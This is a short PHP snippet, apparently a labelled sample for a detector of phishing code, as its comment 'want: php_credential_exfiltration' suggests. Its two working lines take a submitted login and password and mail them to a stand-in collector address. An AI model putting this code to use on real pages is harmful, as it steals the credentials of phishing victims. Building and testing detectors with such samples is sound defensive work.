<?php
// A phishing page mails the login and password (Portuguese field names).
// want: php_credential_exfiltration
$body = "login: " . $_POST['login'] . "\nsenha: " . $_POST['senha'];
mail('collector@example.net', 'login', $body);
